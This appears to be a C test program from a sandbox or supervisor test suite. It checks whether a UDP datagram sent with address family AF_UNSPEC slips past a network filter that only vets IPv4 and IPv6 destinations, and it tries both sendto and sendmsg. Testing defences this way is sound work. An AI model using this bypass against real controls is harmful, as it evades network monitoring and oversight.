/*
 * attack_unspec HOST PORT MSG (threat model item 4)
 *
 * udp_sendmsg reads a sockaddr whose family is AF_UNSPEC as AF_INET on an
 * AF_INET UDP socket: a supervisor that only decided AF_INET/AF_INET6 names
 * and let "AF_UNSPEC" through as "no destination" would send MSG to
 * HOST:PORT undecided. Both sendto and sendmsg are tried.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "report.h"

int main(int argc, char **argv) {
    if (argc != 4) { fprintf(stderr, "usage: attack_unspec HOST PORT MSG\n"); return 2; }
    const char *msg = argv[3];
    struct sockaddr_in to = { .sin_family = AF_UNSPEC, .sin_port = htons((uint16_t)atoi(argv[2])) };
    inet_pton(AF_INET, argv[1], &to.sin_addr);

    int fd = socket(AF_INET, SOCK_DGRAM, 0);
    report("unspec_sendto", sendto(fd, msg, strlen(msg), 0, (struct sockaddr *)&to, sizeof to));
    struct iovec iov = { (void *)msg, strlen(msg) };
    struct msghdr mh = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &iov, .msg_iovlen = 1 };
    report("unspec_sendmsg", sendmsg(fd, &mh, 0));
    close(fd);
    return 0;
}
